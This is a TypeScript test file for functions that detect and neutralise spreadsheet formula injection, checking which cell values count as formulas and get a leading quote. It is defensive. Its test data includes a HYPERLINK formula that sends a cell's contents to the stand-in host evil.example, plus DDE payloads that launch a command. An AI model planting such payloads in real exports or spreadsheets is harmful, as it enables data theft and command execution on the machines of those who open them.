import { describe, expect, it } from 'vitest';
import { looksLikeFormula, neutraliseFormula } from './formula.ts';

describe('looksLikeFormula / neutraliseFormula', () => {
  it.each([
    // OWASP's starting characters.
    ['=1+2', true],
    ['=HYPERLINK("http://evil.example/?x="&A2,"Click me")', true],
    ["=cmd|' /C calc'!A0", true],
    ['@SUM(A1:A9)', true],
    ['@handle', true],
    ["+cmd|' /C calc'!A0", true],
    ['-2+3', true],
    ['+A1', true],
    ['- team lead', true],
    ['-5 employees', true],
    ['\t=1+2', true],
    ['\rfoo', true],
    ['\tindented', true],
    // Signed numbers and phone numbers stay as they are.
    ['-5', false],
    ['-5.25', false],
    ['+14155550123', false],
    ['+1 (415) 555-0123', false],
    ['+44 20 7946 0958', false],
    ['+1-415-555-0123', false],
    ['+49/30/1234567', false],
    // Plain text, and lone characters a spreadsheet shows as text.
    ['Acme', false],
    ['a=b', false],
    ['ada@example.com', false],
    ['', false],
    ['-', false],
    ['+', false],
    ['=', false],
    ['@', false],
    [' =1+2', false],
  ])('%j → %s', (value, formula) => {
    expect(looksLikeFormula(value)).toBe(formula);
    expect(neutraliseFormula(value)).toBe(formula ? `'${value}` : value);
  });
});
